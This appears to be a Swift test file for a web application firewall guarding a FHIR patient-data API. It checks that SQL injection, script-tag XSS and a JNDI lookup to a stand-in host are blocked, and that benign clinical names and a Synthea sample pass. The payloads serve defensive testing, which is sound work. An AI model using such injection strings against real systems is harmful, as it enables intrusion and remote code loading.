import FHIR
import Foundation
import Gateway
import HTTPTypes
import ServerApp
import TestSupport
import Testing

@Suite struct WAFHTTPTests {
    @Test(arguments: TestDatabaseKind.allCases)
    func blocksAnswer403WithTheRequestIDOnly(_ kind: TestDatabaseKind) async throws {
        try await TestServer.run(kind) { s in
            let blocked = try await s.get("/fhir/Patient?name=%27%20OR%20%271%27%3D%271", headers: [HTTPField.Name("X-Request-ID")!: "trace-42"])
            #expect(blocked.code == 403)
            // an OperationOutcome on /fhir, naming the request id and nothing about the rule
            #expect(blocked.issueCodes == ["security"])
            #expect(blocked.text.contains("request id trace-42") && !blocked.text.contains("sqli"))
            #expect(blocked.headers[.xContentTypeOptions] == "nosniff")
            let body = j(#"{"resourceType":"Patient","name":[{"family":"<script>alert(1)</script>"}]}"#)
            #expect(try await s.post("/fhir/Patient", body).code == 403)
            #expect(try await s.get("/fhir/Patient?_total=accurate").total == 0)  // nothing was stored
            // clinical text with quotes and SQL words goes through
            let note = j(#"{"resourceType":"Patient","name":[{"family":"O'Drop-Select","given":["D'Arcy"]}]}"#)
            #expect(try await s.post("/fhir/Patient", note).code == 201)
            #expect(try await s.get("/fhir/Patient?family=O'Drop").entries.count == 1)
        }
    }
}

@Suite struct WAFBodyHTTPTests {
    @Test(arguments: TestDatabaseKind.allCases)
    func bodiesAreReadOnlyAfterAuthenticationAndInspectedDecoded(_ kind: TestDatabaseKind) async throws {
        try await TestServer.run(kind) { s in
            let attack = j(#"{"resourceType":"Patient","name":[{"family":"<script>alert(1)</script>"}]}"#)
            // without a token the body is never read: authentication answers, not the WAF
            #expect(try await s.request(.post, "/fhir/Patient", json: attack, as: .anonymous).code == 401)
            // with one, the WAF reads it as the handler does, JSON escapes decoded
            let escaped = #"{"resourceType":"Patient","name":[{"family":"\u003cscript\u003ealert(1)\u003c/script\u003e"}]}"#
            let blocked = try await s.request(.post, "/fhir/Patient", body: escaped, headers: [.contentType: "application/fhir+json"])
            #expect(blocked.code == 403)
            #expect(blocked.issueCodes == ["security"])
            let jndi = #"{"resourceType":"Patient","name":[{"family":"\u0024{jndi:ldap://evil.example/a}"}]}"#
            #expect(try await s.request(.post, "/fhir/Patient", body: jndi, headers: [.contentType: "application/fhir+json"]).code == 403)
            #expect(try await s.get("/fhir/Patient?_total=accurate").total == 0)  // nothing was stored
            // a large body (over 1 MiB) within the route's limit goes through the large-body gate
            let data = Data((0..<(3 << 20)).map { UInt8(truncatingIfNeeded: $0 &* 2_654_435_761 >> 7) }).base64EncodedString()
            let binary = j(#"{"resourceType":"Binary","contentType":"application/octet-stream","data":"\#(data)"}"#)
            #expect(try await s.post("/fhir/Binary", binary).code == 201)
        }
    }
}

/// Every resource of the Synthea sample passes the WAF as the body of its transaction.
@Suite struct WAFSyntheaTests {
    @Test func theSyntheaSampleHasNoFalsePositives() throws {
        guard SyntheaData.directory != nil else {
            print("SKIPPED: the Synthea sample (../shared/testdata/synthea-r4-120) is absent; WAF false positives not measured")
            return
        }
        let waf = WAF(configuration: .init())
        let files = try SyntheaData.files()
        var resources = 0
        for (name, data) in files {
            let verdict = waf.inspect(.init(client: "192.0.2.1", path: "/fhir", query: "", userAgent: "healthhub-test", body: Array(data)))
            if verdict.action == .block {
                // name the resource that trips it
                let bundle = try JSONSerialization.jsonObject(with: data) as! [String: Any]
                for entry in bundle["entry"] as? [[String: Any]] ?? [] {
                    let bytes = try JSONSerialization.data(withJSONObject: entry["resource"] ?? [:])
                    let v = waf.inspect(.init(client: nil, path: "/fhir", query: "", body: Array(bytes)))
                    #expect(v.action != .block, "\(name): \((entry["resource"] as? [String: Any])?["resourceType"] ?? "?") trips \(v.rule ?? "?")")
                }
            }
            resources += (try JSONSerialization.jsonObject(with: data) as? [String: Any])?["entry"].map { ($0 as? [Any])?.count ?? 0 } ?? 0
        }
        print("WAF Synthea check: \(resources) resources in \(files.count) bundles, \(waf.matches.values.reduce(0, +)) matches")
        #expect(resources == 92_114)
        #expect(waf.matches.isEmpty, "\(waf.matches)")
    }
}
